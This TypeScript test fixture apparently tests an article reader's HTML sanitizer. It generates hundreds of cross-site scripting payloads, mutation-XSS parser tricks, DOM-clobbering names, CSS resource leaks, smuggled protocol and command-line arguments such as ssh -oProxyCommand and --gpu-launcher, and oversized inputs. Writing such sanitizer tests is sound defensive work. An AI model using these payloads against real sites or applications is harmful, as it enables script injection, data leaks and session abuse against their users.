/**
 * What hostile sources send: each would run code, load something, leave the article or impersonate if it were let through.
 *
 * By families, so that a new trick finds its neighbours. Every vector that could run code runs `run`, and every one that
 * could ask for something asks for an address that begins with `leak`.
 */
export interface Hostile {
  /** JavaScript without spaces, quotes and angle brackets: it stands in attributes of every kind. */
  run: string
  /** Where requests are counted. */
  leak: string
  /** An origin whose images and links are harmless in themselves. */
  site: string
}

export interface Vector {
  family: string
  html: string
}

/** Every vector of every family. */
export function hostileArticles(hostile: Hostile): Vector[] {
  return Object.entries(families).flatMap(([family, vectors]) => vectors(hostile).map((html) => ({ family, html })))
}

const families: Record<string, (hostile: Hostile) => string[]> = {
  classics: ({ run, leak, site }) => [
    `<script>${run}</script>`,
    `<SCRIPT SRC=${leak}.js></SCRIPT>`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `<script type="module">import('${leak}')</script>`,
    `<img src=x onerror="${run}">`,
    `<img src=x oNeRrOr=${run}>`,
    `<img src="x" onload="${run}" onmouseover="${run}" onfocus="${run}" tabindex=1 autofocus>`,
    `<img src="javascript:${run}">`,
    `<img src="java\tscript:${run}">`,
    `<img src=\`javascript:${run}\`>`,
    `<img srcset="${leak}-a 1x, ${leak}-b 2x" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`,
    `<picture><source srcset="${leak}-p"><img alt=p></picture>`,
    `<img lowsrc="${leak}" dynsrc="${leak}" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
    `<img src="data:text/html,<script>${run}</script>">`,
    `<svg onload="${run}"></svg>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
    `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
    `<svg><use href="${leak}.svg#x"></use></svg>`,
    `<svg><image href="${leak}.png"></image></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
    `<svg><style><img src=x onerror="${run}"></style></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    `<math><mi//xlink:href="data:x,<script>${run}</script>">`,
    `<math href="javascript:${run}">x</math>`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
    `<noembed><img src=x onerror=${run}></noembed>`,
    `<xmp><img src=x onerror=${run}></xmp>`,
    `<template><img src=x onerror=${run}></template>`,
    `<textarea><img src=x onerror=${run}></textarea>`,
    `<title><img src=x onerror=${run}></title>`,
    `<style>@import '${leak}.css'; body{background:url(${leak})}</style>`,
    `<style>*{display:none}</style><p>still here</p>`,
    `<div style="background:url(${leak})">x</div>`,
    `<div style="position:fixed;inset:0;z-index:9999">over all</div>`,
    `<p style="behavior:url(#x);-moz-binding:url(${leak})">x</p>`,
    `<link rel=stylesheet href="${leak}.css">`,
    `<link rel=prefetch href="${leak}"><link rel=dns-prefetch href="//leak.example"><link rel=preconnect href="${leak}">`,
    `<base href="${leak}/"><a href="x">x</a><img src="y">`,
    `<meta http-equiv=refresh content="0;url=${leak}">`,
    `<meta http-equiv=Content-Security-Policy content="default-src *">`,
    `<iframe src="javascript:${run}"></iframe>`,
    `<iframe srcdoc="<script>${run}</script>"></iframe>`,
    `<iframe src="data:text/html,<script>${run}</script>"></iframe>`,
    `<frameset onload="${run}"><frame src="${leak}"></frameset>`,
    `<object data="javascript:${run}"></object>`,
    `<object data="data:text/html,<script>${run}</script>"><img src=x onerror=${run}></object>`,
    `<embed src="javascript:${run}">`,
    `<applet code=x archive="${leak}.jar"></applet>`,
    `<portal src="${leak}"></portal><fencedframe></fencedframe>`,
    `<video src="blob:x" poster="${leak}" onerror="${run}"></video>`,
    `<video><source onerror="${run}" src="file:///x"></video>`,
    `<audio src="javascript:1" autoplay onerror="${run}"></audio>`,
    `<track src="${leak}"><bgsound src="${leak}">`,
    `<a href="javascript:${run}">x</a>`,
    `<a href="  java&#10;script:${run}">x</a>`,
    `<a href="&#106;avascript:${run}">x</a>`,
    `<a href="JaVaScRiPt:${run}" target=_top>x</a>`,
    `<a href="vbscript:x">x</a><a href="data:text/html,<script>${run}</script>">x</a><a href="blob:x">x</a><a href="file:///etc/passwd">x</a>`,
    `<a href="app://media/?u=x">x</a><a href="tickertape://subscribe?url=x">x</a><a href="chrome://settings">x</a>`,
    `<a href="${site}" ping="${leak}" target="_self" download onclick="${run}">x</a>`,
    `<map name=m><area shape=default href="javascript:${run}"></map><img usemap=#m src="${site}/i.png">`,
    `<form action="${leak}" id=f><input name=attributes><input name=remove><input name=getAttribute type=image src="${leak}"><button formaction="javascript:${run}">x</button></form>`,
    `<form hidden><input name=remove><input name=hasAttribute><input name=removeAttribute></form>`,
    `<form style="display:none" id=x><input name=getAttribute><input name=id></form>`,
    `<button autofocus onfocus="${run}">x</button><input autofocus onfocus="${run}"><select onfocus="${run}" autofocus><option>x</select>`,
    `<details open ontoggle="${run}"><summary>x</summary></details>`,
    `<body onload="${run}" background="${leak}"><p>x</p></body>`,
    `<table background="${leak}"><td background="${leak}">x</table>`,
    `<marquee onstart="${run}">x</marquee>`,
    `<img name="querySelectorAll" src="${site}/a.png"><img name="createElement" src="${site}/b.png">`,
    `<a id=querySelector name=body href="${site}">x</a><a id=defaultView>x</a><p id="tt-at-x" class="tt-embed evil">x</p>`,
    `<p id=__proto__>x</p><a href="#__proto__">x</a><a name=constructor></a><a href="#constructor">x</a>`,
    `<custom-element is="x-y" onclick="${run}">x</custom-element><p is="x-y" slot=s part=p>x</p>`,
    `<div contenteditable onbeforeinput="${run}" accesskey=x>x</div>`,
    `<div><template shadowrootmode=open><img src=x onerror=${run}></template></div>`,
    `<dialog open><form method=dialog><button>x</button></form></dialog><div popover>x</div>`,
    `<!--><img src=x onerror=${run}>--><p>x</p>`,
    `<![CDATA[<img src=x onerror=${run}>]]>`,
    `<?xml version="1.0"?><?php echo "<script>${run}</script>" ?>`,
    `<p title='"><img src=x onerror=${run}>'>x</p>`,
    `<img alt="<script>${run}</script>" src="${site}/i.png">`,
    `<img src="${site}/i.png?&quot; onerror=&quot;${run}">`,
    `<img width="1" height="1" src="${site}/pixel.gif"><img style="width:1px;height:1px" src="${site}/pixel2.gif">`,
    `<img width="99999999999" height="-5" src="${site}/big.png">`,
    `${'<div>'.repeat(3000)}deep${'</div>'.repeat(3000)}`,
    `${'<b><p>'.repeat(400)}<img src=x onerror=${run}>`,
    `<a href="https://bank.example@evil.example/">bank.example</a>`,
    '<p>\u202Eevil\u202C\u0000</p>'
  ],

  /** Each element with every handler that it could fire by itself. */
  'handlers on every element': ({ run }) =>
    ELEMENTS.map(
      (name) => `<${name} ${AT_ONCE.map((event) => `${event}="${run}"`).join(' ')} autofocus open>x</${name}>`
    ),

  /** Each handler, in the spellings that a filter by name overlooks. */
  'every handler': ({ run }) =>
    EVENTS.map((event, place) => {
      const spelt = place % 2 === 0 ? event.toUpperCase() : event
      const gap = ['/', '\t', '\n', '\f', '\u0000 '][place % 5]
      return `<img src=x${gap}${spelt}${place % 3 === 0 ? ' ' : ''}=${run} style="animation:a 1s;transition:all 1s" tabindex=0>`
    }),

  'svg and math': ({ run, leak }) => [
    `<svg><animate xlink:href=#x attributeName=href values="javascript:${run}" /><a id=x><text x=20 y=20>x</text></a></svg>`,
    `<svg><set attributeName=onmouseover to="${run}" begin=0s /></svg>`,
    `<svg><animateTransform onbegin="${run}" attributeName=transform></svg>`,
    `<svg><animateMotion onend="${run}" dur=1ms></svg>`,
    `<svg><discard onbegin="${run}"/></svg>`,
    `<svg><script href="data:text/javascript,${run}"></script></svg>`,
    `<svg><script xlink:href="${leak}.js" /></svg>`,
    `<svg><script>&#97;lert&#40;1)</script></svg>`,
    `<svg><style>@import '${leak}'; *{fill:url(${leak}#x)}</style></svg>`,
    `<svg><filter id=f><feImage href="${leak}"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
    `<svg><rect fill="url(${leak}#x)" mask="url(${leak}#m)" clip-path="url(${leak}#c)" cursor="url(${leak}),auto" /></svg>`,
    `<svg><image xlink:href="${leak}" /><image href="javascript:${run}" /></svg>`,
    `<svg><pattern id=p href="${leak}#x"/><linearGradient href="${leak}#g"/><textPath href="${leak}#t">x</textPath></svg>`,
    `<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJy8+#x"/></svg>`,
    `<svg><handler type="application/javascript" ev:event=load>${run}</handler></svg>`,
    `<svg><foreignObject><body onload="${run}"><img src=x onerror="${run}"></body></foreignObject></svg>`,
    `<svg><desc><img src=x onerror="${run}"></desc><title><img src=x onerror="${run}"></title></svg>`,
    `<svg><video><source onerror="${run}"></video></svg>`,
    `<svg/onload=${run}>`,
    `<svg\u00a0onload=${run}>`,
    `<svg><a href="javascript:${run}" target=_top><circle r=40 /></a></svg>`,
    `<math><maction actiontype="statusline#x" xlink:href="javascript:${run}">x</maction></math>`,
    `<math><annotation-xml encoding="text/html"><img src=x onerror="${run}"></annotation-xml></math>`,
    `<math><annotation-xml encoding="application/xhtml+xml"><script>${run}</script></annotation-xml></math>`,
    `<math xlink:href="javascript:${run}" href="javascript:${run}"><mi>x</mi></math>`,
    `<math><semantics><mi>x</mi><annotation xlink:href="${leak}">x</annotation></semantics></math>`
  ],

  'mutations: what parses otherwise the second time': ({ run }) => [
    `<math><mtext><table><mglyph><style><math></style><img src=x onerror=${run}>`,
    `<math><mtext><table><malignmark><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
    `<svg><p><style><g title="</style><img src=x onerror=${run}>">`,
    `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
    `<svg><![CDATA[><img src=x onerror=${run}>]]>`,
    `<svg><title><style><a title="</style></title><img src=x onerror=${run}>"></svg>`,
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
    `<table><svg><style><a title="</style><img src=x onerror=${run}>"></table>`,
    `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${run}>">`,
    `<select><iframe></select><img src=x onerror=${run}>`,
    `<noscript><style></noscript><img src=x onerror=${run}></style>`,
    `<noembed><style></noembed><img src=x onerror=${run}></style>`,
    `<noframes><style></noframes><img src=x onerror=${run}></style>`,
    `<iframe><style></iframe><img src=x onerror=${run}></style>`,
    `<xmp><style></xmp><img src=x onerror=${run}></style>`,
    `<textarea><style></textarea><img src=x onerror=${run}></style>`,
    `<title><a title="</title><img src=x onerror=${run}>"></title>`,
    `<style><style/><img src=x onerror=${run}>`,
    `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
    `<pre>\n<listing>\n<img src=x onerror=${run}></listing></pre>`,
    `<p id="\`\`onerror=${run}"><img alt="\`\`onerror=${run}" src=x>`,
    `<a title="a &#34;><img src=x onerror=${run}>">x</a>`,
    `<a title='&lt;/a>&lt;img src=x onerror=${run}>'>x</a>`,
    `<b><table><tr><td></b><img src=x onerror=${run}><caption><b><td>`,
    `<a><table><a><img src=x onerror=${run}></table></a>`,
    `<div><!--!><img src=x onerror=${run}>--!><img src=x onerror=${run}>--></div>`,
    `<!--><svg><!-- --><img src=x onerror=${run}>`,
    `<!--\u0000--!><img src=x onerror=${run}>`,
    `<?xml-stylesheet ><img src=x onerror=${run}> ?>`,
    `</p/><img/src=x/onerror=${run}//`,
    `<img """><img src=x onerror=${run}>">`,
    `<img src=x onerror=${run}`,
    `<<img src=x onerror=${run}>>`,
    `<\u0000img src=x onerror=${run}><im\u0000g src=x onerror=${run}>`,
    `\uFEFF<img src=x onerror=${run}>+ADw-img src=x onerror=${run}+AD4-`,
    `\u00BCimg src=x onerror=${run}\u00BE \uFF1Cimg src=x onerror=${run}\uFF1E`,
    `&lt;img src=x onerror=${run}&gt; &amp;lt;img src=x onerror=${run}&amp;gt;`,
    `\\x3cimg src=x onerror=${run}\\x3e %3Cimg src=x onerror=${run}%3E`
  ],

  'frames and plug-ins': ({ run, leak }) => [
    `<iframe src="${leak}" srcdoc="&lt;img src=x onerror=${run}&gt;"></iframe>`,
    `<iframe src="about:blank" onload="${run}" name=article></iframe>`,
    `<iframe src="//${leak.replace(/^\w+:\/\//, '')}" sandbox="allow-scripts allow-same-origin allow-top-navigation"></iframe>`,
    `<iframe allow="camera;microphone;geolocation" allowfullscreen src="${leak}"></iframe>`,
    `<iframe src="app://tickertape/index.html"></iframe>`,
    `<iframe src="file:///etc/passwd"></iframe><iframe src="view-source:${leak}"></iframe>`,
    `<iframe srcdoc="<meta http-equiv=refresh content='0;url=javascript:${run}'>"></iframe>`,
    `<iframe srcdoc="<base href='${leak}/'><script src=x></script>"></iframe>`,
    `<object type="text/html" data="${leak}"></object>`,
    `<object type="image/svg+xml" data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>"></object>`,
    `<object><param name=src value="${leak}"><embed src="${leak}" type="application/pdf"></object>`,
    `<object classid="clsid:x" codebase="${leak}"><param name=url value="javascript:${run}"></object>`,
    `<embed src="data:text/html,<script>${run}</script>" type="text/html">`,
    `<embed code="${leak}" allowscriptaccess=always type="application/x-shockwave-flash">`,
    `<frameset><frame src="javascript:${run}"><frame src="${leak}"></frameset>`,
    `<fencedframe config src="${leak}"></fencedframe><webview src="${leak}" nodeintegration></webview>`,
    `<layer src="${leak}"></layer><ilayer src="${leak}"></ilayer><xml src="${leak}" id=x></xml>`
  ],

  styles: ({ run, leak }) => [
    `<style>@font-face{font-family:x;src:url(${leak})}*{font-family:x}</style>x`,
    `<style>@import url(${leak});@import "${leak}" layer(x) supports(display:grid);</style>`,
    `<style>@namespace x url(${leak});@charset "x";:root{--x:url(${leak});background:var(--x)}</style>`,
    `<style>input[value^=a]{background:url(${leak})}a:visited{background:url(${leak})}</style>`,
    `<style>body::after{content:url(${leak})}li{list-style:url(${leak})}*{cursor:url(${leak}),auto}</style>`,
    `<style media="x" onload="${run}"></style><style onerror="${run}">@import x</style>`,
    `<style>html,body,iframe{position:fixed!important;inset:0!important;transform:scale(9)}</style>`,
    `<p style="background-image:\\75 \\72 \\6c (${leak})">x</p>`,
    `<p style="background:u/**/rl(${leak});background:URL( '${leak}' )">x</p>`,
    `<p style="width:expression(${run});-moz-binding:url('${leak}#x')">x</p>`,
    `<p style="background:image-set('${leak}' 1x);mask:url(${leak});border-image:url(${leak})">x</p>`,
    `<p style="content:url(${leak});filter:url(${leak}#x);shape-outside:url(${leak})">x</p>`,
    `<p style="display:block;height:99999999px;margin-top:-9999px;z-index:2147483647;position:sticky">x</p>`,
    `<p style="font:1px/1 x&quot;;background:url(${leak})&quot;">x</p>`,
    `<p style=x:expression(${run}) class="dialog window pane" data-pane=reader>x</p>`,
    `<link rel=stylesheet href="data:text/css,*%7Bbackground:url(${leak})%7D">`,
    `<link rel="alternate stylesheet" href="${leak}" onload="${run}" onerror="${run}">`
  ],

  'links that load by themselves': ({ run, leak }) => [
    ...[
      'preload',
      'modulepreload',
      'prefetch',
      'prerender',
      'preconnect',
      'dns-prefetch',
      'icon',
      'manifest',
      'import'
    ].map((rel) => `<link rel="${rel}" as=image href="${leak}" imagesrcset="${leak} 1x" onload="${run}">`),
    `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${leak}"]}]}</script>`,
    `<script type=importmap>{"imports":{"x":"${leak}"}}</script>`,
    `<link rel=pingback href="${leak}"><link rel=search href="${leak}" type="application/opensearchdescription+xml">`,
    `<a href="https://127.0.0.1:1/" ping="${leak} ${leak}" attributionsrc="${leak}">x</a>`,
    `<img attributionsrc="${leak}" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`
  ],

  'meta and base': ({ run, leak }) => [
    `<meta http-equiv="refresh" content="0;javascript:${run}">`,
    `<meta http-equiv="refresh" content="0; URL='data:text/html,<script>${run}</script>'">`,
    `<META HTTP-EQUIV=Refresh CONTENT="0,${leak}">`,
    `<meta http-equiv="Link" content="<${leak}>; rel=stylesheet">`,
    `<meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv=x-dns-prefetch-control content=on>`,
    `<meta name=referrer content=unsafe-url><meta name=viewport content="width=1"><meta charset=utf-7>`,
    `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline' *"><script>${run}</script>`,
    `<base target=_top href="javascript:${run}//"><a href="">x</a>`,
    `<base href="${leak}/"><base href="app://tickertape/"><img src=x.png><a href=y>y</a>`,
    `<head><base href="data:,"></head><a href="x">x</a>`
  ],

  forms: ({ run, leak }) => [
    `<form action="javascript:${run}"><input type=submit autofocus></form>`,
    `<form id=f action="${leak}" target=_top method=post></form><button form=f>x</button>`,
    `<input type=image src="${leak}" formaction="javascript:${run}" formtarget=_parent>`,
    `<isindex action="javascript:${run}" type=image><keygen autofocus onfocus="${run}">`,
    `<button popovertarget=x popovertargetaction=show onclick="${run}">x</button><p id=x popover onbeforetoggle="${run}">x</p>`,
    `<input type=password name=password autocomplete=current-password><input type=file webkitdirectory>`,
    `<form><input name=parentNode><input name=innerHTML><input name=attributes><input name=nodeName><input name=firstChild></form>`,
    `<form><input name=ownerDocument><input name=childNodes><input name=nextSibling><input name=removeChild></form>`,
    `<output onforminput="${run}">x</output><datalist><option value="javascript:${run}"></datalist>`,
    `<select autofocus onchange="${run}" onfocusin="${run}"><option selected>x</option></select>`,
    `<textarea autofocus onfocus="${run}" oninput="${run}">x</textarea>`,
    `<fieldset disabled onclick="${run}"><legend><img src=x onerror="${run}"></legend></fieldset>`
  ],

  'links in many spellings': ({ run, leak }) =>
    [
      `javascript:${run}`,
      `JAVASCRIPT:${run}`,
      `\u0001javascript:${run}`,
      `\u0000javascript:${run}`,
      `\tjava\nscript\r:${run}`,
      `&#9;javascript:${run}`,
      `&#x6A;&#x61;vascript:${run}`,
      `&#0000106avascript&colon;${run}`,
      `java&Tab;script&NewLine;:${run}`,
      `javascript&#x3A;${run}`,
      `javascript:%0a${run}`,
      `javascript://comment%0a${run}`,
      `javascript://127.0.0.1/%0a${run}`,
      `javascript:/*--></title></style></textarea></script>*/${run}`,
      `\u2028javascript:${run}`,
      `\u00a0javascript:${run}`,
      `\uFEFFjavascript:${run}`,
      `j\u0430vascript:${run}`,
      `\uFF4Aavascript:${run}`,
      `jar:javascript:${run}!/`,
      `feed:javascript:${run}`,
      `view-source:javascript:${run}`,
      `livescript:${run}`,
      `mocha:${run}`,
      `vbscript:msgbox(1)`,
      `VBS\tcript:x`,
      `data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4=`,
      `data:text/html;charset=utf-16,x`,
      `data:image/svg+xml,<svg onload='${run}'/>`,
      `data:application/xhtml+xml,<x/>`,
      `data:;,x`,
      `DATA:TEXT/HTML,x`,
      `blob:${leak}`,
      `filesystem:${leak}`,
      `about:srcdoc`,
      `about:blank#${run}`,
      `file:///etc/passwd`,
      `FILE:\\\\127.0.0.1\\x`,
      `\\\\127.0.0.1\\share`,
      `chrome://version`,
      `devtools://devtools/bundled/inspector.html`,
      `chrome-extension://x/y`,
      `app://tickertape/index.html`,
      `app://media/?u=${encodeURIComponent(leak)}&i=1&f=1`,
      `tickertape://subscribe?url=${leak}`,
      `ms-msdt:/id PCWDiagnostic`,
      `search-ms:query=x`,
      `smb://127.0.0.1/x`,
      `ssh://-oProxyCommand=x/`,
      `tel:112`,
      `sms:112`,
      `intent://x#Intent;end`,
      `ws://127.0.0.1:1/`,
      `ftp://127.0.0.1:1/`,
      `http:javascript:${run}`,
      `https:/\\/127.0.0.1:1`,
      `http://127.0.0.1:1@127.0.0.1:2/`,
      `http://user:secret@127.0.0.1:1/`,
      `mailto:a@b.example?attach=/etc/passwd&bcc=c@d.example`,
      `--renderer-cmd-prefix=x`,
      `http://127.0.0.1:1/" --gpu-launcher="x`,
      `https://127.0.0.1:1/${'a'.repeat(20_000)}`
    ].map(
      (address) =>
        `<a href="${address.replace(/"/g, '&quot;')}" target=_self>x</a><area href="${address.replace(/"/g, '&quot;')}">`
    ),

  'where text is not markup': ({ run }) => [
    `<plaintext><img src=x onerror=${run}>`,
    `<template><template><img src=x onerror=${run}></template><script>${run}</script></template>`,
    `<template shadowrootmode=closed><slot onslotchange="${run}"></slot><style>*{display:none}</style></template>`,
    `<div><template shadowroot=open><script>${run}</script></template></div>`,
    `<noscript><img src=x onerror=${run}></noscript><noscript><script>${run}</script></noscript>`,
    `<xmp></xmp ><img src=x onerror=${run}><xmp>`,
    `<textarea></textarea\n><img src=x onerror=${run}>`,
    `<title></title/><img src=x onerror=${run}>`,
    `<script><!--<script></script>--></script><img src=x onerror=${run}>`,
    `<script type="text/template"><img src=x onerror=${run}></script>`,
    `<script nomodule defer async>${run}</script><script language=vbscript>x</script>`,
    `<script>/*</script><img src=x onerror=${run}>*/`,
    `<script x>${run}</script x><script\n>${run}</script\n>`,
    `<script/x>${run}</script><script\u0000>${run}</script>`,
    `<nobr><wbr><bdo dir=rtl><ruby><rt><img src=x onerror=${run}></ruby></bdo>`,
    `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
    `<html xmlns:xss><?import namespace=xss implementation=x><xss:xss>x</xss:xss></html>`
  ],

  'names that stand in for others': ({ run, leak }) => [
    ...[
      'cookie',
      'location',
      'defaultView',
      'head',
      'forms',
      'implementation',
      'querySelector',
      'getElementById',
      'currentScript'
    ].map(
      (name) =>
        `<img name=${name} id=${name} src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><form id=${name}><input name=${name}></form>`
    ),
    `<a id=tickertape href="${leak}">x</a><a id=tickertape name=changeSettings href="javascript:${run}">x</a>`,
    `<form id=top><input name=ran></form><form id=parent></form><form id=window></form><form id=self></form>`,
    `<article id=article class=article></article><main id=app></main><div id=root></div><iframe name=parent></iframe>`,
    `<p id="tt-at-" class="tt-unseen tt-lead tt-scroll">x</p><span class=tt-unseen>Load images</span>`,
    `<p id="tt-at-x"></p><p id="tt-at-x"></p><a href="#tt-at-x">x</a><a href="#x">y</a>`,
    `<a href="#__proto__">x</a><p id="constructor">x</p><p id="toString">y</p><a href="#toString">z</a>`,
    `<p id="${'i'.repeat(20_000)}">x</p><a href="#${'i'.repeat(20_000)}">y</a>`,
    `<p slot=x part=y exportparts=z nonce=w is=v itemscope itemprop=u inert popover>x</p>`
  ],

  'pictures, films and sounds': ({ run, leak }) => [
    `<picture><source srcset="${leak} 1x, ${leak}?2 2x" media="(min-width:1px)" onerror="${run}"><img alt=x></picture>`,
    `<picture><source type="image/svg+xml" srcset="data:image/svg+xml,<svg onload='${run}'/>"><img></picture>`,
    `<img srcset="javascript:${run} 1x, ${leak} 2x" sizes="1px">`,
    `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9J3RvcC5yYW49MScvPg==">`,
    `<img src="data:image/png,<script>${run}</script>"><img src="data:image/png;base64,AAAA#<svg onload=${run}>">`,
    `<img src="app://media/?u=${encodeURIComponent(leak)}&i=1&f=1">`,
    `<img src="app://tickertape/index.html"><img src="app://media/../tickertape/index.html">`,
    `<img src="file:///etc/passwd"><img src="\\\\127.0.0.1\\x"><img src="blob:x"><img src="chrome://favicon/x">`,
    `<video poster="${leak}" src="${leak}" autoplay muted controls onplay="${run}"><track default kind=captions src="${leak}"></video>`,
    `<video><source src="javascript:${run}" onerror="${run}"><source srcset="${leak}"></video>`,
    `<audio controls autoplay src="data:audio/wav;base64,UklGRg==" oncanplay="${run}" onerror="${run}"></audio>`,
    `<audio><source src="${leak}" onerror="${run}"><track src="${leak}"></audio>`,
    `<bgsound src="${leak}"><body background="${leak}"><table background="${leak}"><tr background="${leak}"><td>x</table>`,
    `<image src="x" onerror="${run}"><img dynsrc="${leak}" longdesc="${leak}" usemap="javascript:${run}" ismap>`,
    `<canvas onclick="${run}">x</canvas><model src="${leak}"></model><portal src="${leak}" onload="${run}"></portal>`
  ],

  'very much of it': ({ run, site }) => [
    `${'<table><tr><td>'.repeat(800)}<img src=x onerror=${run}>`,
    `${'<a><b><i><u>'.repeat(500)}x`,
    `${'<svg><g>'.repeat(400)}<script>${run}</script>`,
    `${'<math><mrow>'.repeat(400)}<img src=x onerror=${run}>`,
    `${'<blockquote>'.repeat(2_000)}x`,
    `<p ${Array.from({ length: 3_000 }, (_, place) => `a${place}=${place}`).join(' ')} onclick=${run}>x</p>`,
    `${'<p>\u202E\u2066\u0000'.repeat(2_000)}`,
    `<p>${'&'.repeat(50_000)}${'&#x'.repeat(10_000)}${'&lt;'.repeat(20_000)}</p>`,
    `<p>${'\uD800'.repeat(1_000)}${'Z\u0351\u036B'.repeat(5_000)}</p>`,
    `<!--${'-'.repeat(100_000)}><img src=x onerror=${run}>`,
    `<a href="${site}/${'%'.repeat(5_000)}">x</a><a href="${site}/${'../'.repeat(2_000)}">y</a>`,
    `<img src="${'x'.repeat(100_000)}" alt="${'"'.repeat(3)}${'y'.repeat(50_000)}">`
  ]
}

const ELEMENTS =
  'a abbr address article aside audio b blockquote body br button canvas caption cite code col dd del details dialog div dl dt em fieldset figcaption figure footer h1 header hr html i iframe input ins kbd label legend li link main map mark marquee menu meter nav object ol optgroup output p pre progress q s samp search section select small source span strong style sub summary sup table tbody td textarea tfoot th time tr u ul var video wbr xss-element'.split(
    ' '
  )

/** Those that no reader needs to touch anything for. */
const AT_ONCE =
  'onload onerror onfocus onanimationstart ontransitionrun ontoggle onstart onpageshow onscroll onclick'.split(' ')

const EVENTS =
  'onabort onafterprint onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy onbeforecut onbeforeinput onbeforeprint onbeforetoggle onbeforeunload onblur oncanplay oncanplaythrough onchange onclick onclose oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondragend ondragenter ondragover ondragstart ondrop ondurationchange onended onerror onfocus onfocusin onformdata onfullscreenchange onhashchange oninput oninvalid onkeydown onkeypress onkeyup onload onloadeddata onloadstart onmessage onmousedown onmouseenter onmouseover onmousewheel onpagehide onpageshow onpaste onpointerdown onpointerenter onpointerrawupdate onpopstate onreset onresize onscroll onscrollend onsearch onseeked onselect onselectionchange onselectstart onshow onsubmit onsuspend ontimeupdate ontoggle ontouchstart ontransitionend ontransitionrun onunhandledrejection onunload onvolumechange onwaiting onwebkitanimationend onwebkitmouseforcewillbegin onwheel'.split(
    ' '
  )
